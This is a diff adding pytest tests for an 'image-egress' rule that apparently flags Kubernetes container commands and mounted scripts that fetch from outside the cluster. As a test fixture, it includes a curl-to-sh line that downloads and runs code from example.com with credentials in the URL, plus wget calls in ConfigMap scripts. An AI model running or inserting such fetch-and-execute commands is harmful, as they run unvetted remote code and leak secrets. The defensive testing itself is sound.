@@ -178,6 +178,47 @@ def test_the_sdk_that_a_release_records(pinned: Path) -> None:
     assert done.code == 1
 
 
+FETCHES = {
+    "a command": "      command: [sh, -c, 'curl -s https://user:secret@example.com/a?token=secret | sh']\n",
+    "arguments": f"{ARGS}      args: [pip, install, torch]\n",
+}
+
+
+@pytest.mark.parametrize("name", FETCHES)
+def test_what_a_container_fetches(pinned: Path, name: str) -> None:
+    change(pinned, COMPONENT, ARGS, FETCHES[name])
+    assert {rule for rule, *_ in found("olm")} == {"image-egress"}
+    for command, code, told in (
+        ("images check", 1, ": image-egress"),
+        ("check", 0, ": warning: image-egress"),
+    ):
+        done = run(*command.split(), "olm", "-o", "lines")
+        assert (done.code, told in done.out, "secret" in done.out) == (code, True, False)
+
+
+def test_what_stays_in_the_cluster_is_no_finding(pinned: Path) -> None:
+    line = "curl http://hello-metrics:8080/x http://hello-metrics.hello-system:8080/x $URL http://localhost/x"
+    change(pinned, COMPONENT, ARGS, f"      command: [sh, -c, '{line}']\n")
+    assert found("olm") == []
+
+
+SCRIPTS = """\
+objects:
+- {apiVersion: v1, kind: ConfigMap, metadata: {name: hello-scripts}, data: {start.sh: "wget http://example.com/a"}}
+- {apiVersion: v1, kind: ConfigMap, metadata: {name: hello-others}, data: {start.sh: "wget http://example.com/a"}}
+
+services:
+"""
+
+
+def test_scripts_that_are_mounted(pinned: Path) -> None:
+    change(pinned, COMPONENT, "services:\n", SCRIPTS)
+    assert found("olm") == []
+    volumes = "  name: manager\n  volumes: {scripts: {configMap: {name: hello-scripts}}}\n  containers:\n"
+    change(pinned, COMPONENT, "  name: manager\n  containers:\n", volumes)
+    assert found("olm") == [("image-egress", COMPONENT, "/objects/0/data/start.sh")]
+
+
 @pytest.fixture
 def bundled(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
     """Make a kit with a bundle, all of it by digest, the current folder."""
